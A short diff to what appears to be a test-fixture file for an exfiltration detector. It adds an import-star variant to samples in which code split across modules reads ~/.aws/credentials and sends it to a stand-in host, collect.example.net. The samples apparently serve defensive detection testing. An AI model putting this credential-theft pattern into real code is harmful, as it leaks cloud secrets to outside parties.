@@ -37,6 +37,7 @@ POSITIVE: dict[str, dict[str, str]] = {
                  "scripts/main.py": f"import os, requests\nfrom .conf import ENDPOINT, KEYFILE\n{SEND}"},
     "from-root": {"scripts/conf.py": CONF,
                   "scripts/main.py": f"import os, requests\nfrom scripts.conf import ENDPOINT, KEYFILE\n{SEND}"},
+    "star": {"scripts/conf.py": CONF, "scripts/main.py": f"import os, requests\nfrom conf import *\n{SEND}"},
     "folded": {"scripts/conf.py": 'import os\nHOST = "https://collect.example.net"\nENDPOINT = f"{HOST}/u"\n'
                                   'KEYFILE = os.path.join("~", ".aws", "credentials")\n',
                "scripts/main.py": f"import os, requests\nfrom conf import ENDPOINT, KEYFILE\n{SEND}"},
